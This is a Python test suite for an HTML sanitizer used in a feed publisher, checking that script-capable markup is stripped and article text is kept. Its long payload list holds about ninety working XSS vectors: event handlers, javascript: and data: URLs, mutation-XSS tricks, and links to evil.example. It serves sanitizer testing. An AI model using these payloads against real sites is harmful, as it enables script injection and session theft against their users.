"""No script-capable element, attribute or address leaves `convert`, and what a reader reads stays."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import html as lxml_html

from feedpub.markup import ALLOWED, LINK_SCHEMES, MEDIA_SCHEMES, convert

BASE = "https://news.example.org/politics/talks"
ADDRESSES = {"href", "src", "poster", "cite"}

SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script\n>",
    "<script><!--<script></script>--></script>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr = 'alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src=x\x00 onerror=alert(1)>",
    "<img src='x' \x0bonerror=alert(1)>",
    "<p onclick=alert(1)>x</p>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video src=x onloadstart=alert(1) autoplay></video>",
    "<audio src=javascript:alert(1) onerror=alert(1)></audio>",
    "<video poster=javascript:alert(1)></video>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    "<a href='java&NewLine;script:alert(1)'>x</a>",
    "<a href='java&#8;script:alert(1)'>x</a>",
    "<a href='java&#0;script:alert(1)'>x</a>",
    "<a href='java\x00script:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
    "<a href='javascript&#58;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='view-source:javascript:alert(1)'>x</a>",
    "<a href='blob:https://evil.example/1'>x</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>' alt=x>",
    "<img srcset='javascript:alert(1) 1x, data:text/html,x 2x' alt=x>",
    "<picture><source srcset='javascript:alert(1)'><img src=x></picture>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
    "<q cite='data:text/html,x'>x</q>",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><use href='data:image/svg+xml,x#x'/></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<iframe><p title='</iframe><img src=x onerror=alert(1)>'></iframe>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src='https://e.example/\"><script>alert(1)</script>'></iframe>",
    "<iframe src=//e.example title='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<embed src='data:text/html;base64,PHNjcmlwdD4='>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='javascript:alert(1)//'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p class='x' style='position:fixed'>x</p>",
    "<form action='javascript:alert(1)'><button formaction='javascript:alert(1)'>x</button></form>",
    "<input type=image src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<template><script>alert(1)</script></template>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!-- --!><script>alert(1)</script>-->",
    "<!--><script>alert(1)</script>-->",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "</p/onclick=alert(1)><br/onclick=alert(1)>",
    "<a href='https://e.example/' target=_blank ping=//evil.example onmouseover=alert(1)>x</a>",
    "<table background='javascript:alert(1)'><tr><td>x</table>",
    "<table><td><select><option><script>alert(1)</script></table>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<feedpub-frame src='javascript:alert(1)' onclick=alert(1)>x</feedpub-frame>",
    "<p title='&lt;script&gt;alert(1)&lt;/script&gt;'>x</p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<code class='language-x\" onclick=\"alert(1)'>x</code>",
    "<b id='&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;'>x</b>",
]


class Inspector(HTMLParser):
    """An independent parser that collects what is not allowed."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self.words: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.faults += find_faults(tag, [(key, value or "") for key, value in attrs])

    def handle_data(self, data: str) -> None:
        self.words.append(data)

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.faults.append(f"declaration {decl}")

    def handle_pi(self, data: str) -> None:
        self.faults.append(f"instruction {data}")


def find_faults(tag: str, attributes: list[tuple[str, str]]) -> list[str]:
    if tag not in ALLOWED or tag == "*":
        return [f"element {tag}"]
    faults = [f"attribute {tag} {key}" for key, _ in attributes if key not in ALLOWED[tag] | ALLOWED["*"]]
    for key, value in attributes:
        schemes = LINK_SCHEMES if key == "href" else MEDIA_SCHEMES
        if key in ADDRESSES and value.split(":")[0] not in schemes:
            faults.append(f"address {tag} {key}={value}")
        if key == "srcset":
            faults += [f"srcset {part}" for part in value.split(", ") if not part.startswith(("http://", "https://"))]
    return faults


def inspect(html: str) -> Inspector:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    for element in lxml_html.fragment_fromstring(html, create_parent="div").iterdescendants():
        inspector.faults += find_faults(str(element.tag), [(str(key), str(value)) for key, value in element.items()])
    return inspector


@pytest.mark.parametrize("body_format", ["html", "markdown"])
@pytest.mark.parametrize("script", SCRIPTS)
def test_no_script_survives_and_the_text_before_it_stays(script: str, body_format: str) -> None:
    before = "Read this first.\n\n"
    written = before + script
    html = convert(written, body_format="html" if body_format == "html" else "markdown", base=BASE)
    inspector = inspect(html)
    assert inspector.faults == []
    assert "Read this first." in "".join(inspector.words)


@pytest.mark.parametrize("script", [script for script in SCRIPTS if script.endswith((">x</a>", ">x</p>", "</table>"))])
def test_the_text_within_and_after_a_script_stays(script: str) -> None:
    words = "".join(inspect(convert(f"<div>{script}</div><p>Read on.", body_format="html", base=BASE)).words)
    assert words.endswith("Read on.")
    assert "x" in words.removesuffix("Read on.") or "<script" in script


def test_the_corpus_is_not_small() -> None:
    assert len(set(SCRIPTS)) >= 60


def test_the_inspector_finds_what_it_looks_for() -> None:
    found = inspect("<script></script><p onclick=x><a href=javascript:x></a><img srcset='data:x 1x'><!-- x -->").faults
    assert {fault.split()[0] for fault in found} == {"element", "attribute", "address", "srcset", "comment"}


PIECES = st.sampled_from(
    [
        *(
            "<svg>",
            "</svg>",
            "<math>",
            "<mtext>",
            "<style>",
            "</style>",
            "<script>",
            "</script>",
            "<!--",
            "-->",
            "--!>",
        ),
        *(
            "<title>",
            "</title>",
            "<textarea>",
            "</textarea>",
            "<xmp>",
            "</xmp>",
            "<noscript>",
            "</noscript>",
            "<table>",
        ),
        *(
            "<td>",
            "<p>",
            "</p>",
            "<a href='",
            "<img title='",
            "'",
            '"',
            ">",
            "<",
            "&lt;",
            "&#8;",
            "\x00",
            "\r",
            "=",
            "/",
        ),
        *("<iframe src='", "</iframe>", "<object data=", "<embed src=", "javascript:alert(1)", "onerror=alert(1)", " "),
        *(
            "<template>",
            "</template>",
            "<plaintext>",
            "<![CDATA[",
            "]]>",
            "<?",
            "<select>",
            "<form>",
            "&quot;",
            "x",
            "\n",
        ),
    ]
)


@settings(max_examples=150, deadline=None)
@given(st.lists(PIECES, max_size=20).map("".join))
def test_no_heap_of_hostile_pieces_lets_anything_through(written: str) -> None:
    html = convert(written, body_format="html", base=BASE)
    assert inspect(html).faults == []


@settings(max_examples=75, deadline=None)
@given(st.lists(PIECES, max_size=20).map("".join))
def test_what_was_converted_once_is_not_changed_in_its_words_by_converting_again(written: str) -> None:
    once = convert(written, body_format="html", base=BASE)
    twice = convert(once, body_format="html", base=BASE)
    assert "".join(inspect(twice).words).split() == "".join(inspect(once).words).split()
